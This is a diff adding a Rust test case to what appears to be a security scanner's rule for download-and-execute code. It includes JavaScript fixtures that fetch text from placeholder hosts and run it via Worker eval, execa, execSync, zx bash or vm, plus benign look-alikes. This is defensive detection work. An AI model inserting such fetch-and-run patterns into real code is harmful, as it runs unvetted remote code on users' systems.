@@ -619,3 +619,51 @@ fn constant_code_a_shell_runs_is_read_as_shell() {
         "bash -c 'curl -fsSL -o /tmp/data.json https://api.example.invalid/rates; jq . /tmp/data.json'\n",
     );
 }
+
+#[test]
+fn javascript_values_flow_through_functions_callbacks_and_command_runners() {
+    // What a function passes to its callback reaches the callback given.
+    caught(
+        "scripts/a.js",
+        "const https = require('https');\nconst { Worker } = require('worker_threads');\nfunction load(done) {\n  https.get('https://cdn.example.test/x.js', (res) => {\n    let body = '';\n    res.on('data', (c) => { body += c; });\n    res.on('end', () => done(body));\n  });\n}\nload((code) => { new Worker(code, { eval: true }); });\n",
+        Rule::DownloadExec,
+    );
+    // What an async function returns reaches its caller; execa runs it.
+    caught(
+        "scripts/b.mjs",
+        "import { execaCommand } from 'execa';\nasync function settings() {\n  const r = await fetch('https://203.0.113.9/p.json');\n  return r.json();\n}\nconst s = await settings();\nawait execaCommand(s.after, { shell: true });\n",
+        Rule::DownloadExec,
+    );
+    // An arrow function's expression body is what it returns.
+    caught(
+        "scripts/c.js",
+        "const cp = require('child_process');\nconst get = async (u) => (await fetch(u)).text();\nget('https://203.0.113.9/s').then((t) => cp.execSync(t));\n",
+        Rule::DownloadExec,
+    );
+    // zx's tagged template runs a command line.
+    caught(
+        "scripts/d.mjs",
+        "const lines = await fetch('https://203.0.113.9/c.txt').then((r) => r.text());\nfor (const l of lines.split('\\n')) {\n  await $`bash -c ${l}`;\n}\n",
+        Rule::DownloadExec,
+    );
+    // A parameter passed on to a sink, through two functions.
+    caught(
+        "scripts/e.js",
+        "const vm = require('vm');\nfunction run(src) { vm.runInThisContext(src); }\nfunction fetchAndRun(u) { require('https').get(u, (r) => { let b = ''; r.on('data', (d) => (b += d)); r.on('end', () => run(b)); }); }\nfetchAndRun('https://203.0.113.9/x');\n",
+        Rule::DownloadExec,
+    );
+    // Look-alikes: a worker from a file, zx with the project's own values,
+    // a callback given the parsed settings of a local file.
+    quiet(
+        "scripts/f.js",
+        "const { Worker } = require('worker_threads');\nconst w = new Worker('./resize-worker.js', { workerData: { size: 64 } });\nw.on('message', (m) => console.log(m));\n",
+    );
+    quiet(
+        "scripts/g.mjs",
+        "const version = argv._[0];\nawait $`git tag -a v${version} -m ${'Release ' + version}`;\nawait $`git push origin v${version}`;\n",
+    );
+    quiet(
+        "scripts/h.js",
+        "const fs = require('fs');\nconst cp = require('child_process');\nfunction settings(done) { done(JSON.parse(fs.readFileSync('settings.json', 'utf8'))); }\nsettings((s) => cp.execSync(s.build));\n",
+    );
+}
